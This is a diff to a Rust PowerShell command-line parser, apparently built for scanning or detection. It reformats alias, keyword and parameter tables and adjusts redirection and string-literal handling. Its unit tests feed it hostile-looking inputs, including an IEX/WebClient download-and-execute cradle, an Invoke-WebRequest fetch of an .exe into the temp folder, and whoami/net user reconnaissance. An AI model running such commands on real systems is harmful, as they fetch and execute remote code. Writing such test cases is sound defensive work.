@@ -46,30 +46,92 @@ pub struct Arg {
 
 /// Names that stand for cmdlets.
 const ALIASES: &[(&str, &str)] = &[
-    ("iex", "Invoke-Expression"), ("iwr", "Invoke-WebRequest"), ("wget", "Invoke-WebRequest"), ("curl", "Invoke-WebRequest"),
-    ("irm", "Invoke-RestMethod"), ("icm", "Invoke-Command"), ("saps", "Start-Process"), ("start", "Start-Process"),
-    ("gwmi", "Get-WmiObject"), ("iwmi", "Invoke-WmiMethod"), ("swmi", "Set-WmiInstance"), ("gcim", "Get-CimInstance"), ("icim", "Invoke-CimMethod"),
-    ("ncim", "New-CimInstance"), ("gps", "Get-Process"), ("ps", "Get-Process"), ("spps", "Stop-Process"), ("kill", "Stop-Process"),
-    ("gsv", "Get-Service"), ("sasv", "Start-Service"), ("spsv", "Stop-Service"), ("gc", "Get-Content"), ("cat", "Get-Content"),
-    ("type", "Get-Content"), ("ac", "Add-Content"), ("cp", "Copy-Item"), ("copy", "Copy-Item"), ("cpi", "Copy-Item"),
-    ("mv", "Move-Item"), ("move", "Move-Item"), ("mi", "Move-Item"), ("ren", "Rename-Item"), ("rni", "Rename-Item"), ("rm", "Remove-Item"), ("del", "Remove-Item"),
-    ("erase", "Remove-Item"), ("ri", "Remove-Item"), ("rd", "Remove-Item"), ("rmdir", "Remove-Item"), ("ni", "New-Item"),
-    ("md", "New-Item"), ("mkdir", "New-Item"), ("si", "Set-Item"), ("sp", "Set-ItemProperty"), ("gp", "Get-ItemProperty"),
-    ("rp", "Remove-ItemProperty"), ("gci", "Get-ChildItem"), ("ls", "Get-ChildItem"), ("dir", "Get-ChildItem"),
-    ("foreach", "ForEach-Object"), ("%", "ForEach-Object"), ("where", "Where-Object"), ("?", "Where-Object"), ("echo", "Write-Output"),
-    ("write", "Write-Output"), ("sleep", "Start-Sleep"), ("cd", "Set-Location"), ("sl", "Set-Location"), ("nsn", "New-PSSession"),
-    ("etsn", "Enter-PSSession"), ("ipmo", "Import-Module"), ("sajb", "Start-Job"), ("tee", "Tee-Object"), ("select", "Select-Object"),
+    ("iex", "Invoke-Expression"),
+    ("iwr", "Invoke-WebRequest"),
+    ("wget", "Invoke-WebRequest"),
+    ("curl", "Invoke-WebRequest"),
+    ("irm", "Invoke-RestMethod"),
+    ("icm", "Invoke-Command"),
+    ("saps", "Start-Process"),
+    ("start", "Start-Process"),
+    ("gwmi", "Get-WmiObject"),
+    ("iwmi", "Invoke-WmiMethod"),
+    ("swmi", "Set-WmiInstance"),
+    ("gcim", "Get-CimInstance"),
+    ("icim", "Invoke-CimMethod"),
+    ("ncim", "New-CimInstance"),
+    ("gps", "Get-Process"),
+    ("ps", "Get-Process"),
+    ("spps", "Stop-Process"),
+    ("kill", "Stop-Process"),
+    ("gsv", "Get-Service"),
+    ("sasv", "Start-Service"),
+    ("spsv", "Stop-Service"),
+    ("gc", "Get-Content"),
+    ("cat", "Get-Content"),
+    ("type", "Get-Content"),
+    ("ac", "Add-Content"),
+    ("cp", "Copy-Item"),
+    ("copy", "Copy-Item"),
+    ("cpi", "Copy-Item"),
+    ("mv", "Move-Item"),
+    ("move", "Move-Item"),
+    ("mi", "Move-Item"),
+    ("ren", "Rename-Item"),
+    ("rni", "Rename-Item"),
+    ("rm", "Remove-Item"),
+    ("del", "Remove-Item"),
+    ("erase", "Remove-Item"),
+    ("ri", "Remove-Item"),
+    ("rd", "Remove-Item"),
+    ("rmdir", "Remove-Item"),
+    ("ni", "New-Item"),
+    ("md", "New-Item"),
+    ("mkdir", "New-Item"),
+    ("si", "Set-Item"),
+    ("sp", "Set-ItemProperty"),
+    ("gp", "Get-ItemProperty"),
+    ("rp", "Remove-ItemProperty"),
+    ("gci", "Get-ChildItem"),
+    ("ls", "Get-ChildItem"),
+    ("dir", "Get-ChildItem"),
+    ("foreach", "ForEach-Object"),
+    ("%", "ForEach-Object"),
+    ("where", "Where-Object"),
+    ("?", "Where-Object"),
+    ("echo", "Write-Output"),
+    ("write", "Write-Output"),
+    ("sleep", "Start-Sleep"),
+    ("cd", "Set-Location"),
+    ("sl", "Set-Location"),
+    ("nsn", "New-PSSession"),
+    ("etsn", "Enter-PSSession"),
+    ("ipmo", "Import-Module"),
+    ("sajb", "Start-Job"),
+    ("tee", "Tee-Object"),
+    ("select", "Select-Object"),
 ];
 
 const KEYWORDS: &[&str] = &[
-    "if", "elseif", "else", "while", "foreach", "for", "do", "until", "switch", "try", "catch", "finally", "function", "filter",
-    "param", "return", "begin", "process", "end", "throw", "trap", "break", "continue", "in", "exit",
+    "if", "elseif", "else", "while", "foreach", "for", "do", "until", "switch", "try", "catch", "finally", "function",
+    "filter", "param", "return", "begin", "process", "end", "throw", "trap", "break", "continue", "in", "exit",
 ];
 
 /// Parameters of powershell.exe that take a value, beside those that say what to do.
 const VALUED: &[&str] = &[
-    "executionpolicy", "ep", "exec", "windowstyle", "version", "inputformat", "outputformat", "psconsolefile", "configurationname",
-    "workingdirectory", "wd", "settingsfile", "custompipename",
+    "executionpolicy",
+    "ep",
+    "exec",
+    "windowstyle",
+    "version",
+    "inputformat",
+    "outputformat",
+    "psconsolefile",
+    "configurationname",
+    "workingdirectory",
+    "wd",
+    "settingsfile",
+    "custompipename",
 ];
 
 /// Brackets that are looked into.
@@ -250,7 +312,9 @@ impl Scan<'_> {
         words.retain(|w| !w.is_empty());
         let Some(first) = words.first().cloned() else { return };
         let lower = first.to_lowercase();
-        let keyword = KEYWORDS.iter().find(|k| **k == lower || lower.strip_prefix(**k).is_some_and(|r| r.starts_with(['(', '{'])));
+        let keyword = KEYWORDS
+            .iter()
+            .find(|k| **k == lower || lower.strip_prefix(**k).is_some_and(|r| r.starts_with(['(', '{'])));
         if keyword.is_some() && !(lower == "foreach" && words.len() > 1 && words[1].starts_with('{')) {
             if matches!(keyword, Some(&"return" | &"throw" | &"exit")) {
                 self.statement(text[first.len().min(text.len())..].trim());
@@ -272,7 +336,9 @@ impl Scan<'_> {
         } else if first.starts_with('&') && first.len() > 1 {
             let name = self.value(&first[1..]).value;
             self.command(&name, true, &words[1..], text);
-        } else if first.starts_with(['$', '(', '[', '{', '"', '\'', '@', '-', '+', '!', ',']) || first.starts_with(|c: char| c.is_ascii_digit()) {
+        } else if first.starts_with(['$', '(', '[', '{', '"', '\'', '@', '-', '+', '!', ','])
+            || first.starts_with(|c: char| c.is_ascii_digit())
+        {
             self.expression(text);
         } else {
             let path = first.contains(['\\', '/']);
@@ -292,9 +358,12 @@ impl Scan<'_> {
             i += 1;
             if let Some(to) = w.strip_prefix("2>").or_else(|| w.strip_prefix('>')).or_else(|| w.strip_prefix("*>")) {
                 let to = to.trim_start_matches('>');
-                let target = if to.is_empty() { words.get(i).map(|t| self.value(t).value) } else { Some(self.value(to).value) };
+                let target =
+                    if to.is_empty() { words.get(i).map(|t| self.value(t).value) } else { Some(self.value(to).value) };
                 i += to.is_empty() as usize;
-                call.into = target.filter(|t| !w.starts_with("2>") && !t.starts_with('&') && t != "$null");
+                if !w.starts_with("2>") {
+                    call.into = target.filter(|t| !t.starts_with('&') && t != "$null");
+                }
                 continue;
             }
             if w == "`" {
@@ -311,7 +380,10 @@ impl Scan<'_> {
             self.inside(w);
             self.methods(w);
         }
-        let runs_elsewhere = matches!(&*full.to_lowercase(), "invoke-command" | "start-job" | "register-scheduledjob" | "register-objectevent");
+        let runs_elsewhere = matches!(
+            &*full.to_lowercase(),
+            "invoke-command" | "start-job" | "register-scheduledjob" | "register-objectevent"
+        );
         self.out.push(call);
         if !runs_elsewhere {
             for (w, _) in blocks.iter().filter(|(_, b)| *b) {
@@ -369,7 +441,8 @@ impl Scan<'_> {
                     if end > 0 && body[end..].starts_with('(') {
                         let (inner, len) = bracket(&body[end..]);
                         let args = split_outside(inner, &|r| r.starts_with(',') as usize);
-                        let args = args.iter().map(|a| a.trim()).filter(|a| !a.is_empty()).map(|a| self.value(a)).collect();
+                        let args =
+                            args.iter().map(|a| a.trim()).filter(|a| !a.is_empty()).map(|a| self.value(a)).collect();
                         let name = format!(".{}", &body[..end]);
                         self.out.push(Call { name, path: false, args, text: text.to_owned(), into: None });
                         i += 1 + end + len;
@@ -395,7 +468,11 @@ impl Scan<'_> {
         let w = word.trim();
         if quoted_len(w).is_some_and(|n| n == w.len() && w.len() >= 2) {
             let here = w.starts_with('@');
-            let inner = if here { w.get(2..w.len().saturating_sub(2)).unwrap_or_default().trim_matches(['\r', '\n']) } else { w.get(1..w.len() - 1)? };
+            let inner = if here {
+                w.get(2..w.len().saturating_sub(2)).unwrap_or_default().trim_matches(['\r', '\n'])
+            } else {
+                w.get(1..w.len() - 1)?
+            };
             return Some(match w.trim_start_matches('@').chars().next()? {
                 '\'' if here => inner.to_owned(),
                 '\'' => inner.replace("''", "'"),
@@ -404,9 +481,13 @@ impl Scan<'_> {
         }
         if w.starts_with(['(', '@', '[', '{']) {
             // `("a" + "b")`
-            let inner = w.strip_prefix('(')?.strip_suffix(')')?;
+            let (inner, len) = bracket(w);
+            if !w.starts_with('(') || len != w.len() {
+                return None;
+            }
             let parts = split_outside(inner, &|r| r.starts_with('+') as usize);
-            let all: Option<Vec<String>> = parts.iter().map(|p| self.literal(p)).collect();
+            let text = |p: &String| p.trim_start().starts_with(['\'', '"', '$']);
+            let all: Option<Vec<String>> = parts.iter().map(|p| if text(p) { self.literal(p) } else { None }).collect();
             return all.map(|a| a.concat());
         }
         Some(self.expand(w))
@@ -428,7 +509,11 @@ impl Scan<'_> {
                     let rest = &text[i + 1..];
                     let braced = rest.starts_with('{');
                     let body = if braced { &rest[1..] } else { rest };
-                    let end = if braced { body.find('}') } else { body.find(|c: char| !(c.is_alphanumeric() || c == '_' || c == ':')) };
+                    let end = if braced {
+                        body.find('}')
+                    } else {
+                        body.find(|c: char| !(c.is_alphanumeric() || c == '_' || c == ':'))
+                    };
                     let name = body[..end.unwrap_or(body.len())].trim_end_matches(':');
                     let known = match name.to_lowercase().strip_prefix("env:") {
                         Some(e) => (self.env)(e),
@@ -469,7 +554,9 @@ fn bracket(text: &str) -> (&str, usize) {
     while i < text.len() {
         let rest = &text[i..];
         let Some(c) = rest.chars().next() else { break };
-        if i > 0 && let Some(len) = quoted_len(rest) {
+        if i > 0
+            && let Some(len) = quoted_len(rest)
+        {
             i += len.max(1);
             continue;
         }
@@ -558,7 +645,9 @@ impl Call {
                         return value;
                     }
                     // a switch has no value; which parameters are switches is known for few
-                    i += (value.is_some() && !matches!(&*n.to_lowercase(), "wait" | "nonewwindow" | "passthru" | "force" | "asjob")) as usize;
+                    i += (value.is_some()
+                        && !matches!(&*n.to_lowercase(), "wait" | "nonewwindow" | "passthru" | "force" | "asjob"))
+                        as usize;
                 }
                 _ => {
                     if Some(plain) == position {
@@ -573,7 +662,11 @@ impl Call {
     }
     /// True when a switch is there.
     pub fn has(&self, name: &str) -> bool {
-        self.args.iter().any(|a| a.value.strip_prefix('-').is_some_and(|n| !n.is_empty() && name.to_lowercase().starts_with(&n.to_lowercase())))
+        self.args.iter().any(|a| {
+            a.value
+                .strip_prefix('-')
+                .is_some_and(|n| !n.is_empty() && name.to_lowercase().starts_with(&n.to_lowercase()))
+        })
     }
 }
 
@@ -587,7 +680,11 @@ mod tests {
         let all: Vec<String> = calls(text, &mut env)
             .iter()
             .map(|c| {
-                let args: Vec<String> = c.args.iter().map(|a| if a.block { format!("{{{}}}", a.value) } else { format!("<{}>", a.value) }).collect();
+                let args: Vec<String> = c
+                    .args
+                    .iter()
+                    .map(|a| if a.block { format!("{{{}}}", a.value) } else { format!("<{}>", a.value) })
+                    .collect();
                 format!("{}{}{}", c.name, args.concat(), c.into.as_ref().map_or(String::new(), |t| format!(" >{t}")))
             })
             .collect();
@@ -599,15 +696,24 @@ mod tests {
         let table = [
             ("whoami /all", "whoami</all>"),
             ("whoami; hostname | Out-File $env:TEMP\\x.txt", "whoami; hostname; Out-File<C:\\T\\x.txt>"),
-            ("$u = 'http://x/a'; iwr $u -OutFile \"$env:temp\\a.exe\"", "Invoke-WebRequest<http://x/a><-OutFile><C:\\T\\a.exe>"),
-            ("IEX (New-Object Net.WebClient).DownloadString('http://x')", "New-Object<Net.WebClient>; .DownloadString<http://x>; Invoke-Expression<(New-Object Net.WebClient).DownloadString('http://x')>"),
+            (
+                "$u = 'http://x/a'; iwr $u -OutFile \"$env:temp\\a.exe\"",
+                "Invoke-WebRequest<http://x/a><-OutFile><C:\\T\\a.exe>",
+            ),
+            (
+                "IEX (New-Object Net.WebClient).DownloadString('http://x')",
+                "New-Object<Net.WebClient>; .DownloadString<http://x>; Invoke-Expression<(New-Object Net.WebClient).DownloadString('http://x')>",
+            ),
             ("& { whoami }", "whoami"),
             ("& 'C:\\a b.exe' -x", "C:\\a b.exe<-x>"),
             ("if ($a) { net user } else { net1 user }", "net<user>; net1<user>"),
             ("1..3 | % { ping 10.0.0.$_ }", "ForEach-Object{ping 10.0.0.$_}; ping<10.0.0.$_>"),
             ("# c\nGet-Process # d\n<# e #> ls", "Get-Process; Get-ChildItem"),
             ("echo \"a $(hostname) b\"", "hostname; Write-Output<a $(hostname) b>"),
-            ("Invoke-Command -ComputerName s1 -ScriptBlock { whoami }", "Invoke-Command<-ComputerName><s1><-ScriptBlock>{whoami}"),
+            (
+                "Invoke-Command -ComputerName s1 -ScriptBlock { whoami }",
+                "Invoke-Command<-ComputerName><s1><-ScriptBlock>{whoami}",
+            ),
             ("net user > out.txt 2>$null", "net<user> >out.txt"),
             ("[IO.File]::WriteAllText('a.txt', \"x\")", ".WriteAllText<a.txt><x>"),
             ("Set-Content -Path a `\n -Value b", "Set-Content<-Path><a><-Value><b>"),
